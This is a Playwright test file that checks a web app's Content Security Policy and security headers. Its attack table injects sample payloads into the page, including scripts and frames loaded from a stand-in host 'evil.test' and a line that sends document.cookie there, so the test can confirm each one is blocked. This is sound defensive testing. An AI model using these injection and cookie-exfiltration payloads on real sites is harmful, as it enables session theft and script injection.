import { type BrowserContext, expect, test } from "@playwright/test";
import {
  edit,
  expectSaved,
  note,
  open,
  openHistory,
  openInstalled,
  status,
  widgetNamed,
  write,
} from "./page.ts";

/** What the policy stopped, as it happens: by directive. */
const watch = async (context: BrowserContext): Promise<readonly string[]> => {
  const stopped: string[] = [];
  await context.exposeFunction("reportStopped", (directive: string) => stopped.push(directive));
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      Reflect.get(window, "reportStopped")(effectiveDirective);
    });
  });
  context.on("console", (message) => {
    if (/Content Security Policy/.test(message.text())) stopped.push(message.text());
  });
  return stopped;
};

test("the strict policy stops nothing that the page does", async ({ context, page }) => {
  const stopped = await watch(context);
  await openInstalled(page);
  await write(page, "first");

  await edit(page);
  await page.getByRole("button", { name: "Add widget", exact: true }).click();
  await page.getByRole("dialog").getByRole("button", { name: /Notes/ }).click();
  await widgetNamed(page, "Notes").getByRole("button", { name: "Notes: more actions" }).click();
  await page.getByRole("menuitem", { name: "Settings" }).click();
  const settings = page.getByRole("dialog");
  await settings.getByRole("textbox", { name: "Title" }).fill("Renamed");
  await settings.getByRole("button", { name: "Save" }).click();
  await expect(widgetNamed(page, "Renamed")).toBeVisible();
  await page.getByRole("button", { name: "Done", exact: true }).click();
  await expectSaved(page);

  await openHistory(page);
  await page.getByRole("button", { name: /^Version 1\b/ }).click();
  await page.getByRole("radio", { name: "Compare with now" }).check();
  await expect(page.getByRole("region", { name: "Changes" })).toBeVisible();
  await page.getByRole("button", { name: "Back to now" }).click();
  await page.keyboard.press("Escape");

  await page.getByRole("button", { name: "Menu" }).click();
  const downloading = page.waitForEvent("download");
  await page.getByRole("menuitem", { name: /Download/ }).click();
  const file = await (await downloading).path();
  await page.getByRole("button", { name: "Menu" }).click();
  await page.getByRole("menuitemradio", { name: "Dark" }).click();
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Menu" }).click();
  await page.getByRole("menuitem", { name: /Import/ }).click();
  const dialog = page.getByRole("dialog");
  await dialog.locator("input[type=file]").setInputFiles(file);
  await dialog.getByRole("radio", { name: "In place of what is here" }).check();
  await dialog.getByRole("button", { name: "Import", exact: true }).click();

  await context.setOffline(true);
  await page.reload();
  await expect(widgetNamed(page, "Renamed")).toBeVisible();
  await note(page).first().fill("offline");
  await expect(status(page)).toHaveText(/^On this device/);
  await context.setOffline(false);
  await expectSaved(page);
  await page.evaluate(async () => {
    const socket = new WebSocket(`${location.origin.replace("http", "ws")}/api/layouts/main/live`);
    await new Promise((resolve, reject) => {
      socket.addEventListener("open", resolve, { once: true });
      socket.addEventListener("error", () => reject(new Error("no socket")), { once: true });
    });
    socket.close();
  });
  expect(stopped).toEqual([]);
});

const ATTACKS: Readonly<Record<string, () => void>> = {
  "an inline script": () => {
    const script = document.createElement("script");
    script.textContent = "window.ran = true";
    document.body.append(script);
  },
  "an inline handler": () => {
    document.body.insertAdjacentHTML("beforeend", '<img src="/none" onerror="window.ran = true">');
  },
  "a script of another origin": () => {
    const script = document.createElement("script");
    script.src = "https://evil.test/x.js";
    document.body.append(script);
  },
  "a script in the address": () => {
    const script = document.createElement("script");
    script.src = "data:text/javascript,window.ran=true";
    document.body.append(script);
  },
  "text that is run": () => {
    // Later, as what a test evaluates itself may do so.
    setTimeout(() => new Function("window.ran = true")(), 50);
  },
  "an inline style": () => {
    document.body.insertAdjacentHTML("beforeend", "<style>body { display: none }</style>");
  },
  "a frame that is not encrypted": () => {
    document.body.insertAdjacentHTML("beforeend", '<iframe src="http://evil.test"></iframe>');
  },
  "a frame with a page in its address": () => {
    document.body.insertAdjacentHTML("beforeend", '<iframe src="data:text/html,hello"></iframe>');
  },
  "a plug-in": () => {
    document.body.insertAdjacentHTML("beforeend", '<object data="https://evil.test/x"></object>');
  },
  "a picture that anybody on the way can read": () => {
    new Image().src = `http://evil.test/?${document.cookie}`;
  },
  "a picture in its address": () => {
    new Image().src = "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>";
  },
  "a call that anybody on the way can read": () => {
    fetch("http://evil.test").catch(() => undefined);
  },
  "a style sheet of another origin": () => {
    const sheet = document.createElement("link");
    Object.assign(sheet, { rel: "stylesheet", href: "https://evil.test/x.css" });
    document.head.append(sheet);
  },
  "a socket to another origin": () => {
    new WebSocket("wss://evil.test");
  },
  "a form that is sent away": () => {
    document.body.insertAdjacentHTML("beforeend", '<form action="https://evil.test"></form>');
    document.querySelector<HTMLFormElement>("form[action]")?.submit();
  },
  "another base": () => {
    document.head.insertAdjacentHTML("beforeend", '<base href="https://evil.test/">');
  },
};

test("the strict policy stops whatever is put into the page", async ({ context, page }) => {
  const stopped = await watch(context);
  await open(page);
  for (const [what, attack] of Object.entries(ATTACKS)) {
    const before = stopped.length;
    await page.evaluate(attack).catch(() => undefined);
    await expect.poll(() => stopped.length, what).toBeGreaterThan(before);
    const became = await page.evaluate(() => [
      Reflect.get(window, "ran"),
      getComputedStyle(document.body).display,
    ]);
    expect(became, what).toEqual([undefined, "block"]);
  }
});

test("page, files and service worker come with the policy, wherever the page is entered", async ({
  page,
  request,
}) => {
  await open(page);
  const script = await page.locator("script[type=module]").getAttribute("src");
  for (const path of ["/", "/index.html", "/some/where", "/sw.js", "/theme.js", "/icon.svg", script ?? ""]) {
    const reply = await request.get(path, { headers: { Accept: "text/html" } });
    const headers = reply.headers();
    expect(reply.status(), path).toBe(200);
    expect(headers, path).toMatchObject({
      "content-security-policy": expect.stringContaining("default-src 'none'; script-src 'self';"),
      "cross-origin-opener-policy": "same-origin",
      "cross-origin-resource-policy": "same-origin",
      "permissions-policy": expect.stringContaining("camera=()"),
      "referrer-policy": "same-origin",
      "x-content-type-options": "nosniff",
      "x-frame-options": "DENY",
    });
    // Nothing is wider than what pictures, pages and numbers of widgets need; what runs is ours alone.
    expect(headers["content-security-policy"]?.split("; ").sort(), path).toEqual([
      "base-uri 'none'",
      "connect-src 'self' https: http://localhost:* http://127.0.0.1:*",
      "default-src 'none'",
      "form-action 'none'",
      "frame-ancestors 'none'",
      "frame-src https:",
      "img-src 'self' https:",
      "manifest-src 'self'",
      "script-src 'self'",
      "style-src 'self'",
      "worker-src 'self'",
    ]);
  }
});
